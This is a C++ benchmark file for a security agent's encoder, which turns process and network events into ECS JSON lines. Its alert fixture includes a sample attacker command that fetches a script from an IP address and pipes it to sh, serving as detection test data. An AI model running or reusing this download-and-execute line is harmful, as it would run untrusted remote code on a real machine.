// Google Benchmark: SecurityEvent -> ECS JSON line, for a typical alert and a typical
// telemetry event, plus the encoder feeding the JSON Lines writer (to /dev/null).
#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>

#include <array>
#include <string>

#include <benchmark/benchmark.h>

#include "output/ecs_encoder.hpp"
#include "output/json_lines_writer.hpp"

using namespace mw;

namespace {

std::uint64_t fixed_clock() { return 1'763'769'600'500'000'000ull; }

struct Scene {
    Process init, server, shell;
    std::array<const Process*, 2> chain{};
    std::array<const Process*, 1> server_chain{};
    RuleMatch rule;
    EcsEncoder encoder;

    static EcsEncoder make_encoder(bool cache) {
        HostInfo h;
        h.hostname = h.name = "gpu-node-1";
        h.id = "0123456789abcdef0123456789abcdef";
        h.boot_id = "6f1c3a52-8b1e-4f3e-9d7c-2a4b5c6d7e8f";
        h.architecture = "x86_64";
        h.os_family = h.os_platform = "debian";
        h.os_name = "Debian GNU/Linux";
        h.os_version = "12";
        h.os_full = "Debian GNU/Linux 12 (bookworm)";
        h.os_kernel = "6.18.0";
        h.boot_to_realtime_ns = 1'763'700'000'000'000'000ll;
        AgentInfo a = make_agent_info(h, "0.1.0");
        EcsEncoderOptions o;
        o.clock = fixed_clock;
        o.cache_fragments = cache;
        return EcsEncoder(h, a, o);
    }

    explicit Scene(bool cache = true) : encoder(make_encoder(cache)) {
        init = Process{1, 0, 1'000'000'000, 0, 0, 0, 0, 0, "aW5pdC1lbnRpdHktaWQtMQ", "/usr/lib/systemd/systemd",
                       "systemd", {"/sbin/init"}, false, "/", "/init.scope", false, 0, 0, 0};
        server = Process{4100, 1, 60'000'000'000, 1'000'000'000, 1001, 1002, 7777, 3, "c2VydmVyLWVudGl0eS1pZA",
                         "/usr/bin/python3.11", "python3", {"python3", "serve.py", "--model", "/opt/models/resnet50.pt",
                         "--port", "8080"}, false, "/opt/serve", "/system.slice/torchserve.service", false, 0, 0, 0};
        shell = Process{4242, 4100, 61'250'000'000, 60'000'000'000, 1001, 1002, 7777, 3, "c2hlbGwtZW50aXR5LWlkLTQ",
                        "/usr/bin/dash", "sh", {"/bin/sh", "-c", "curl -s http://203.0.113.9/x | sh"}, false,
                        "/opt/serve", "/system.slice/torchserve.service", false, 0, 0, 0};
        // As a ProcessTable stamps them: the encoder caches their fragments by revision.
        init.revision = 1;
        server.revision = 2;
        shell.revision = 3;
        chain = {&server, &init};
        server_chain = {&init};
        rule.id = "MW-EXEC-001";
        rule.name = "Model server spawned a process";
        rule.description = "A watched model server executed a program outside its exec allow list";
        rule.severity = "high";
        rule.severity_score = 73;
        rule.technique_id = "T1059";
        rule.technique_name = "Command and Scripting Interpreter";
        rule.tactic_name = "Execution";
    }

    SecurityEvent alert() const {
        SecurityEvent e;
        e.sequence = 1;
        e.kind = EventKind::Alert;
        e.record_type = 2;
        e.timestamp_ns = 1'763'769'600'123'456'789ull;
        e.category = "process,intrusion_detection";
        e.type = "start,info";
        e.action = "exec";
        e.outcome = Outcome::Success;
        e.message = "python3 (pid 4100) executed /usr/bin/dash";
        e.process = &shell;
        e.ancestors = chain;
        e.rule = &rule;
        e.workload_name = "torchserve-prod";
        e.workload_root = &server;
        e.enforcement = {"kill", true, true, "bpf_send_signal(SIGKILL)"};
        return e;
    }

    SecurityEvent telemetry() const {
        SecurityEvent e;
        e.sequence = 2;
        e.record_type = 20;
        e.timestamp_ns = 1'763'769'600'200'000'000ull;
        e.category = "network";
        e.type = "connection,start";
        e.action = "connect";
        e.outcome = Outcome::Success;
        e.process = &server;
        e.ancestors = server_chain;
        e.source.family = AF_INET;
        e.source.port = 51000;
        ::inet_pton(AF_INET, "10.1.2.3", e.source.addr.data());
        e.destination.family = AF_INET;
        e.destination.port = 443;
        ::inet_pton(AF_INET, "10.20.30.40", e.destination.addr.data());
        e.socket_type = SOCK_STREAM;
        return e;
    }
};

void run(benchmark::State& state, const SecurityEvent& ev, const EcsEncoder& enc) {
    std::string out;
    out.reserve(16384);
    std::size_t bytes = 0;
    for (auto _ : state) {
        enc.encode(ev, out);
        benchmark::DoNotOptimize(out.data());
        bytes += out.size();
    }
    state.SetItemsProcessed(state.iterations());
    state.SetBytesProcessed(static_cast<std::int64_t>(bytes));
    state.counters["line_bytes"] = static_cast<double>(out.size());
}

void BM_EncodeAlert(benchmark::State& state) {
    Scene s;
    SecurityEvent ev = s.alert();
    run(state, ev, s.encoder);
}
BENCHMARK(BM_EncodeAlert);

void BM_EncodeAlertUncached(benchmark::State& state) {
    Scene s(false);
    SecurityEvent ev = s.alert();
    run(state, ev, s.encoder);
}
BENCHMARK(BM_EncodeAlertUncached);

void BM_EncodeTelemetry(benchmark::State& state) {
    Scene s;
    SecurityEvent ev = s.telemetry();
    run(state, ev, s.encoder);
}
BENCHMARK(BM_EncodeTelemetry);

void BM_EncodeTelemetryUncached(benchmark::State& state) {
    Scene s(false);
    SecurityEvent ev = s.telemetry();
    run(state, ev, s.encoder);
}
BENCHMARK(BM_EncodeTelemetryUncached);

void BM_EncodeAndWriteTelemetry(benchmark::State& state) {
    Scene s;
    SecurityEvent ev = s.telemetry();
    auto writer = JsonLinesWriter::open(JsonLinesWriterConfig{false, "/dev/null", 256 * 1024, std::chrono::milliseconds(1000)});
    if (!writer) {
        state.SkipWithError(writer.error().message.c_str());
        return;
    }
    std::string out;
    out.reserve(16384);
    for (auto _ : state) {
        s.encoder.encode(ev, out);
        (void)writer.value()->write(out);
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_EncodeAndWriteTelemetry);

}  // namespace

BENCHMARK_MAIN();
